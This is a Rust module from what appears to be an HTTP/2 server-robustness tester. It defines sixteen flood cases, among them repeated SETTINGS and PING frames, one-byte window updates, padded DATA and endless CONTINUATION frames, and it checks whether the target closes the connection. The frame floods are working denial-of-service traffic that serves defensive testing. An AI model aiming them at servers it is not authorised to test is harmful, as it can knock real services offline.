//! The same frame over and over.

use std::rc::Rc;
use std::time::Duration;

use testpeer::http2::frame::{self, kind};
use testpeer::http2::{Peer, flood};

use super::PATH;
use crate::attack::{Attack, attack};
use crate::field::Field;
use crate::stage::Stage::Nrf;

macro_rules! floods {
    ($($name:literal, $about:literal, $before:expr, $frame:expr, $ends:expr;)*) => {
        pub(super) const ALL: &[Attack] = &[$(
            attack($name, $about, Nrf, |f| Box::pin(poured(f, $before, $frame, $ends))),
        )*];
    };
}

floods! {
    "http2.settings", "SETTINGS over and over", vec![], frame::settings(&[(4, 65_535)]), true;
    "http2.settings-acks", "SETTINGS ACKs that were not asked for", vec![], frame::raw(kind::SETTINGS, 1, 0, &[]), true;
    "http2.pings", "PINGs", vec![], frame::ping([7; 8]), true;
    "http2.ping-acks", "PING ACKs that were not asked for", vec![], frame::raw(kind::PING, 1, 0, &[7; 8]), true;
    "http2.priorities", "PRIORITY frames", vec![], frame::raw(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]), true;
    "http2.unknown-frames", "frames of an unknown kind", vec![], frame::raw(0xbe, 0, 0, b"x"), true;
    "http2.resets", "RST_STREAM for a stream that is over", frame::get(1, PATH), frame::reset(1, 8), true;
    "http2.push-promises", "PUSH_PROMISE from a client", vec![], frame::raw(kind::PUSH_PROMISE, 4, 1, &[0, 0, 0, 2]), true;
    "http2.window-updates", "WINDOW_UPDATE of one byte for the connection", vec![], frame::window(0, 1), true;
    "http2.stream-window-updates", "WINDOW_UPDATE of one byte for a stream", frame::post(1, PATH), frame::window(1, 1), true;
    "http2.empty-data", "DATA without bytes", frame::post(1, PATH), frame::data(1, &[], false), true;
    "http2.padded-data", "DATA of nothing but padding", frame::post(1, PATH), padded(), true;
    "http2.small-data", "DATA of one byte", frame::post(1, PATH), frame::data(1, b"x", false), false;
    "http2.continuations-empty", "CONTINUATION without bytes and without an end", begun(), frame::raw(kind::CONTINUATION, 0, 1, &[]), true;
    "http2.continuations-small", "CONTINUATION of a field each, without an end", begun(), frame::raw(kind::CONTINUATION, 0, 1, &[0x10, 1, b'a', 1, b'b']), true;
    "http2.continuations-large", "CONTINUATION of 16 KB each, without an end", begun(), frame::raw(kind::CONTINUATION, 0, 1, &frame::block(&[("a", &"b".repeat(16_000))])), true;
}

/// How long the end of a connection is awaited that is flooded no more.
const LATE: Duration = Duration::from_secs(8);

/// HEADERS that go on.
fn begun() -> Vec<u8> {
    frame::raw(
        kind::HEADERS,
        0,
        1,
        &frame::block(&frame::request_fields("GET", PATH)),
    )
}

fn padded() -> Vec<u8> {
    // PADDED: the first byte says how many follow.
    let mut payload = vec![200];
    payload.extend([0; 200]);
    frame::raw(kind::DATA, 8, 1, &payload)
}

async fn poured(field: Rc<Field>, before: Vec<u8>, one: Vec<u8>, ends: bool) -> anyhow::Result<()> {
    let buffer = flood::repeated(&one);
    let mut peer = Peer::client(field.target).await?;
    peer.send(&before).await?;
    let mut poured = peer.pour(&buffer, u64::MAX, field.flood_time()).await;
    if ends && !poured.ended {
        // A busy machine may not have read yet what was sent.
        let end = peer.pour_to_the_end(&[], LATE).await;
        (poured.ended, poured.goaway) = (end.ended, end.goaway);
    }
    field.note(format_args!(
        "{} KiB taken, GOAWAY {:?}, ended: {}",
        poured.sent / 1_024,
        poured.goaway,
        poured.ended
    ));
    // What is allowed in any number ends with the request.
    field.check(poured.ended || !ends, "the flood was never ended");
    // Others that come back at once fare no better.
    let mut sent = poured.sent;
    for _ in 0..field.of(20, 3) {
        let mut peer = Peer::client(field.target).await?;
        peer.send(&before).await?;
        sent += peer.pour(&buffer, 1 << 20, field.flood_time() / 5).await.sent;
    }
    field.note(format_args!("{} KiB in all", sent / 1_024));
    Ok(())
}
